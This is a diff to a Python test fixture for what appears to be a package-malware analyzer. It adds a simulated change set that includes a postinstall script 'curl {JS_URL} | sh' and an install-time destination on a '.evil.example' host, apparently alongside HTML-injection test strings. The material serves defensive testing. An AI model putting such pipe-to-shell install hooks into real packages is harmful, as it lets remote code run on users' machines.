@@ -9,6 +9,7 @@ from __future__ import annotations
 from html.parser import HTMLParser
 from typing import Any
 
+from analyzer.baseline.interface import Change, ChangeKind, ChangeSet
 from analyzer.models import (
     AnalysisResult,
     ConnectionEvent,
@@ -108,6 +109,12 @@ def hostile_result(name: str = HOSTILE_NAME, verdict: Verdict = Verdict.MALICIOU
         metadata={"summary": f"A package {SCRIPT}", "home_page": JS_URL,
                   "author": ATTRIBUTE},
         notes=(f"note {IMG}",),
+        changes=ChangeSet(f"0.9{IMG}", (
+            Change(ChangeKind.SCRIPT_CHANGED, f"postinstall{ATTRIBUTE}", f"node {SCRIPT}",
+                   f"curl {JS_URL} | sh", detail=IMG),
+            Change(ChangeKind.DESTINATION_ADDED, f"{SCRIPT}.evil.example", phase=Phase.INSTALL,
+                   detail="dns"),
+        ), (f"the baseline {SCRIPT} was analysed first",)),
     )
 
 
